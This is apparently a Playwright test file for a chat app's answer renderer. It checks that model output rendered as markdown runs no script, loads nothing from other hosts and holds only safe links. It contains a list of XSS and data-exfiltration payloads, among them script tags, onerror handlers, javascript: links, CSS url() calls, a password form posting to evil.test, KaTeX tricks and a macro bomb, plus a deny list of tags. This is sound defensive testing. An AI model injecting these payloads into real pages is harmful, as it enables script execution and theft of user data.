"""Whatever a model says, it runs nothing, loads nothing from elsewhere, and leads nowhere unexpected."""

import re

import pytest
from playwright.async_api import Locator, Page, Request, expect

from tests.e2e.conftest import AnswerShower

END = "The end of the answer."
ALLOWED_LINK = re.compile(r"^(https?:|mailto:|/c/[\w-]+$|#\w+-user-content-)", re.IGNORECASE)
FORBIDDEN = (
    "script, iframe, object, embed, style, link, meta, base, form, video, audio, picture, img, source,"
    " button[formaction], [onerror], [onload], [onclick], [srcdoc], [style*='url('], svg a, svg use"
)

SCRIPT_LINKS = (
    "[a](javascript:window.owned=1)",
    "[b](JaVaScRiPt:window.owned=1)",
    "[c](java\tscript:window.owned=1)",
    "[d](&#106;avascript:window.owned=1)",
    "[e](<javascript:window.owned=1>)",
    "<javascript:window.owned=1>",
)
OTHER_LINKS = (
    "[a](data:text/html,<script>window.owned=1</script>)",
    "[b](vbscript:msgbox)",
    "[c](file:///etc/passwd)",
    "[d](blob:https://evil.test/1)",
    "[e](//evil.test/x)",
    "[f](\\\\evil.test\\x)",
    "[g](/\\evil.test)",
)
PAYLOADS = {
    "script": "<script>window.owned = 1</script>\n\nand <script src='https://evil.test/x.js'></script> inline",
    "frame": '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>\n\n'
    "<iframe src='https://evil.test/'></iframe>",
    "broken image": "<img src=x onerror='window.owned = 1'>\n\n"
    "text <img src='https://evil.test/a.png' onload='owned=1'>",
    "script links": "\n\n".join(SCRIPT_LINKS),
    "reference image": "![stolen][1]\n\n[1]: https://evil.test/ref.png?secret=1",
    "inline image": "![stolen](https://evil.test/inline.png?secret=1)\n\n"
    "and [![in](https://evil.test/l.png)](https://evil.test)",
    "picture": "<picture><source srcset='https://evil.test/s.png'><img src='https://evil.test/p.png'></picture>",
    "svg": "<svg onload='window.owned=1'><script>window.owned=1</script><image href='https://evil.test/i.png'/></svg>",
    "style": "<style>@import 'https://evil.test/x.css'; body { display: none }</style>\n\n"
    "<p style='background:url(https://evil.test/b.png)'>x</p>",
    "head": "<meta http-equiv='refresh' content='0;url=https://evil.test/'>\n\n<base href='https://evil.test/'>\n\n"
    "<link rel='stylesheet' href='https://evil.test/x.css'>",
    "other schemes": "\n\n".join(OTHER_LINKS),
    "form": "<form action='https://evil.test/'><input name='password'><button>Send</button></form>\n\n"
    "<video src='https://evil.test/v.mp4' autoplay></video><object data='https://evil.test/o'></object>",
    "diagram": '```mermaid\ngraph TD; A["<img src=x onerror=window.owned=1>"] --> B\n```\n\n'
    "```html\n<script>window.owned = 1</script>\n```",
    "clobbering": "<a id='message' name='location'></a>\n\n# location\n\n"
    "[x](/settings/members) [y](#message) [z](../login)",
    "formula": r"$$\text{<img src=x onerror=window.owned=1>}$$ and $\unicode{x}$ and $\frac{$",
    "formula link": r"$\href{javascript:window.owned=1}{x}$ and $\url{javascript:window.owned=1}$",
    "formula image": r"$\includegraphics{https://evil.test/f.png}$ and $$\htmlStyle{background:url(https://evil.test/k)}{x}$$",
    "formula ids": r"$\htmlId{message}{x}$ $\htmlClass{fixed}{y}$ $\htmlData{owned=1}{z}$",
    "formula bomb": r"$\def\a{xx\a}\a$ and $\rule{99999em}{99999em}$",
    "footnote": "A.[^<img src=x onerror=owned=1>] B.[^1]\n\n"
    "[^1]: <script>window.owned = 1</script> [x](javascript:owned=1)",
    "definitions": "[a][j] and [b][v]\n\n[j]: javascript:window.owned=1\n\n[v]: data:text/html,x",
    "table": "| a |\n|---|\n| <img src=x onerror=window.owned=1> [x](javascript:window.owned=1) |",
}


@pytest.fixture
def strangers(page: Page) -> list[str]:
    """The addresses of other hosts that the page has asked for anything."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if "evil.test" in request.url:
            asked.append(request.url)

    page.context.on("request", note)
    return asked


async def links_of(answer: Locator) -> list[str]:
    return [await link.get_attribute("href") or "" for link in await answer.locator("a").all()]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
async def test_an_answer_does_no_harm(
    payload: str, page: Page, strangers: list[str], show_answer: AnswerShower
) -> None:
    answer = await show_answer(f"{payload}\n\n{END}")
    await expect(answer).to_contain_text(END)
    text = answer.locator("[aria-busy]")
    if "formula" in payload or "$" in payload:
        await expect(text.locator(".katex, .katex-error").first).to_be_attached()

    assert await page.evaluate("window.owned") is None
    assert strangers == []
    assert await text.locator(FORBIDDEN).count() == 0
    assert [link for link in await links_of(text) if not ALLOWED_LINK.match(link)] == []
    assert await page.evaluate("document.getElementById('message')") is None
    assert page.url.rsplit("/", 1)[0].endswith("/c")


async def test_outward_links_tell_nothing_and_open_beside(show_answer: AnswerShower) -> None:
    answer = await show_answer("See [this](https://example.org/x) or https://example.org/y.")
    links = answer.locator("a")
    await expect(links).to_have_count(2)
    for link in await links.all():
        await expect(link).to_have_attribute("target", "_blank")
        await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


async def test_a_link_to_a_conversation_is_followed_within_the_page(page: Page, show_answer: AnswerShower) -> None:
    answer = await show_answer("I said it [before](/c/con_other).")
    await page.evaluate("window.here = true")
    await answer.get_by_role("link", name="before").click()
    await page.wait_for_url("**/c/con_other")
    assert await page.evaluate("window.here") is True


async def test_a_picture_is_its_description_and_its_link(show_answer: AnswerShower) -> None:
    answer = await show_answer("![A cat](https://example.org/cat.png)")
    await expect(answer.get_by_role("link", name="[image: A cat]")).to_have_attribute(
        "href", "https://example.org/cat.png"
    )


async def test_a_footnote_leads_to_its_note_without_leaving(page: Page, show_answer: AnswerShower) -> None:
    answer = await show_answer("It is so.[^1]\n\nMore.\n\n[^1]: Because of this.")
    before = page.url
    await answer.get_by_role("link", name="1", exact=True).click()
    await expect(answer.get_by_text("Because of this.")).to_be_in_viewport()
    assert page.url == before
